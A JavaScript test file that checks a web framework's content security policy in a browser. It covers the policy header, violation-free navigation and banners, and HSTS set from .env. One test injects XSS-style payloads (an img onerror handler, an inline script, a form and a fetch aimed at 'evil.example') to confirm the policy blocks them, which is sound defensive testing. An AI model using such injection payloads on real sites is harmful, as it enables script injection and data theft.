// The content security policy, as a browser enforces it.
import assert from "node:assert/strict";
import { writeFile } from "node:fs/promises";
import { join } from "node:path";
import { testsOf } from "./harness/browser.mjs";
import { expect } from "./harness/expect.mjs";
import { shows, visit } from "./harness/page.mjs";

const counter = testsOf("counter");
const fixture = testsOf("fixture");
const button = (page, name) => page.getByRole("button", { name });

/** The violations of the policy in the current document. Call it before the first visit. */
async function violations(page) {
  await page.addInitScript(() => {
    window.violations = [];
    document.addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI }) => {
      window.violations.push(`${effectiveDirective} ${blockedURI}`);
    });
  });
  return () => page.evaluate(() => window.violations);
}

counter("an app starts, navigates and calls under the policy", async ({ page }) => {
  const found = await violations(page);
  const response = await visit(page, "/");
  const policy = await response.headerValue("content-security-policy");
  assert.match(policy, /script-src 'self' 'wasm-unsafe-eval';/);
  assert.doesNotMatch(policy, /unsafe-inline|'unsafe-eval'/);
  await page.getByRole("link", { name: "Counter 1" }).click();
  await shows(page, "Counter 1");
  await button(page, "+").click();
  await expect.text(page.locator("output"), "1");
  assert.deepEqual(await found(), []);
});

fixture(
  "the notice of an outdated page is styled under the policy",
  { allow: [/WebSocket connection to .* failed/] },
  async ({ page, server }) => {
    const found = await violations(page);
    await visit(page, "/order");
    await page.getByLabel("Note").pressSequentially("milk");
    await server.deploy("fixture-next");
    await server.log.take(/path="\/_rally\/socket".* status=101/);
    await button(page, "Buy").click();
    const notice = page.locator(".rally-banner--outdated[role=status]");
    await notice.waitFor();
    const style = await notice.evaluate((element) => {
      const { position, backgroundColor, color, bottom } = getComputedStyle(element);
      return { position, backgroundColor, color, bottom };
    });
    assert.equal(style.position, "fixed");
    assert.equal(style.bottom, "0px");
    assert.notEqual(style.backgroundColor, "rgba(0, 0, 0, 0)");
    const cursor = await button(notice, "Reload").evaluate((it) => getComputedStyle(it).cursor);
    assert.equal(cursor, "pointer");
    assert.deepEqual(await found(), []);
  },
);

fixture("the banner of a lost connection is styled under the policy", {
  allow: [/WebSocket connection to .* failed/],
}, async ({ page, server }) => {
  const found = await violations(page);
  await visit(page, "/calls");
  await server.stop();
  const banner = page.locator(".rally-banner");
  await banner.first().waitFor();
  assert.equal(await banner.first().evaluate((it) => getComputedStyle(it).position), "fixed");
  assert.deepEqual(await found(), []);
});

fixture(
  "injected markup runs no script and sends no data",
  { allow: [/Content Security Policy/] },
  async ({ page }) => {
    const found = await violations(page);
    await visit(page, "/form");
    await page.evaluate(async () => {
      const smuggled = document.createElement("div");
      smuggled.innerHTML =
        "<img src='data:,' onerror='window.broken = 1'>" +
        "<style>h1 { color: rgb(1, 2, 3) }</style>" +
        "<form action='https://evil.example/'><button>Go</button></form>";
      document.body.append(smuggled);
      const script = document.createElement("script");
      script.textContent = "window.broken = 2";
      document.body.append(script);
      await fetch("https://evil.example/").catch(() => {});
      smuggled.querySelector("button").click();
    });
    await expect.value(
      async () => [...new Set(await found())].map((it) => it.split(" ")[0]).sort(),
      ["connect-src", "form-action", "script-src-attr", "script-src-elem", "style-src-elem"],
    );
    assert.equal(await page.evaluate(() => window.broken), undefined);
  },
);

fixture("the environment of .env is used", async ({ server }) => {
  const hsts = async () => (await fetch(server.url)).headers.get("strict-transport-security");
  assert.equal(await hsts(), null);
  await server.stop();
  await writeFile(join(server.directory, ".env"), "# where it runs\nexport APP_ENV='Production'\n");
  await server.start();
  assert.equal(await hsts(), "max-age=31536000");
});
